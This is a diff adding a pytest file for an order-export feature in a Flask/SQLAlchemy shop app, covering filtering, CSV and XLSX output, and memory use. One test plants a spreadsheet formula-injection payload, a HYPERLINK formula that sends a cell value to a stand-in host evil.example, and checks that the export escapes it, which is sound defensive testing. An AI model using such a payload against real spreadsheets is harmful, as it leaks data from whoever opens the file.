@@ -0,0 +1,139 @@
+#!/usr/bin/env python3
+# -*- coding: utf-8 -*-
+
+"""
+订单导出测试
+验证按日期、状态筛选，多行订单逐行导出，CSV 分块输出、XLSX 可读，以及内存占用不随行数增长。
+"""
+
+import csv
+import io
+import os
+import sys
+import tracemalloc
+from datetime import datetime, timedelta
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import insert
+
+from models import db, Product, Order
+from orders import place_cart_order
+import order_export
+
+
+@pytest.fixture
+def app(make_app):
+    app = make_app()
+    with app.app_context():
+        for i in range(1, 3):
+            db.session.add(Product(sku=f'EXP-{i}', name=f'导出产品{i}', retail_price=10.0 * i,
+                                   wholesale_price=8.0 * i, stock_quantity=1000))
+        db.session.commit()
+    return app
+
+
+def seed_orders(count, product_id, created_at):
+    db.session.execute(insert(Order), [
+        {'product_id': product_id, 'quantity': 1, 'unit_price': 10.0, 'total_amount': 10.0,
+         'customer_name': f'客户{i}', 'customer_phone': '13800000000', 'status': 'delivered',
+         'created_at': created_at, 'notes': '批量' * 20}
+        for i in range(count)
+    ])
+    db.session.commit()
+
+
+def read_csv(data):
+    assert data.startswith('\ufeff')
+    return list(csv.reader(io.StringIO(data[1:])))
+
+
+def test_export_filters_and_formats(app):
+    with app.app_context():
+        p1, p2 = Product.query.order_by(Product.sku).all()
+        cart, _ = place_cart_order([(p1, 2), (p2, 10)], '张三', '13800000000', '加急')
+        cart_id = cart.id
+        # 没有明细的旧订单按订单头导出
+        db.session.add(Order(product_id=p2.id, quantity=1, total_amount=20.0, status='cancelled',
+                             created_at=datetime.utcnow() - timedelta(days=40)))
+        db.session.commit()
+
+    client = app.test_client()
+    rows = read_csv(client.get('/export/orders').get_data(as_text=True))
+    assert rows[0] == list(order_export.HEADERS)
+    assert len(rows) == 4
+    assert [(r[0], r[5], r[7], r[9]) for r in rows[2:]] == [
+        (str(cart_id), 'EXP-1', '2', '20.0'), (str(cart_id), 'EXP-2', '10', '160.0')]
+    assert rows[1][2] == 'cancelled'
+
+    today = datetime.utcnow().strftime('%Y-%m-%d')
+    rows = read_csv(client.get(f'/export/orders?start={today}&end={today}').get_data(as_text=True))
+    assert len(rows) == 3
+    rows = read_csv(client.get('/export/orders?status=cancelled').get_data(as_text=True))
+    assert [r[2] for r in rows[1:]] == ['cancelled']
+
+    response = client.get('/export/orders?format=xlsx&status=pending')
+    assert response.status_code == 200
+    assert 'orders.xlsx' in response.headers['Content-Disposition']
+    sheet = load_workbook(io.BytesIO(response.data), read_only=True).active
+    values = [list(row) for row in sheet.iter_rows(values_only=True)]
+    assert values[0] == list(order_export.HEADERS)
+    assert [(v[5], v[7]) for v in values[1:]] == [('EXP-1', 2), ('EXP-2', 10)]
+
+    assert client.get('/export/orders?status=unknown').status_code == 400
+    assert client.get('/export/orders?start=2024-13-01').status_code == 400
+    assert client.get('/export/orders?format=pdf').status_code == 400
+
+
+def test_formula_cells_are_escaped(app):
+    with app.app_context():
+        product = Product.query.filter_by(sku='EXP-1').one()
+        db.session.add(Order(product_id=product.id, quantity=1, total_amount=10.0,
+                             customer_name='=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+                             customer_phone='+8613800000000', notes='@SUM(1+1)\n第二行'))
+        db.session.commit()
+
+    client = app.test_client()
+    row = read_csv(client.get('/export/orders').get_data(as_text=True))[1]
+    assert row[3] == '\'=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+    assert row[4] == "'+8613800000000"
+    assert row[10] == "'@SUM(1+1)\n第二行"
+    # 普通文本和数值列不变
+    assert (row[5], row[6], row[7]) == ('EXP-1', '导出产品1', '1')
+
+    # XLSX 中同样是文本而不是公式
+    response = client.get('/export/orders?format=xlsx')
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    cell = sheet.cell(row=2, column=4)
+    assert cell.data_type == 's'
+    assert cell.value.startswith("'=HYPERLINK")
+
+
+def export_peak():
+    """导出全部订单的 CSV，返回 Python 内存分配峰值（字节）"""
+    tracemalloc.start()
+    try:
+        for chunk in order_export.iter_csv(order_export.iter_rows(batch_size=500)):
+            pass
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    return peak
+
+
+def test_export_memory_is_flat(app):
+    with app.app_context():
+        product_id = Product.query.first().id
+        seed_orders(2000, product_id, datetime.utcnow())
+        small = export_peak()
+        seed_orders(18000, product_id, datetime.utcnow())
+        large = export_peak()
+    # 行数增加 10 倍，峰值内存基本不变
+    print(f"导出峰值内存: 2000 行 {small // 1024} KB，20000 行 {large // 1024} KB")
+    assert large < small * 1.5 + 256 * 1024, (small, large)
+
+
+if __name__ == '__main__':
+    sys.exit(pytest.main([__file__, '-q']))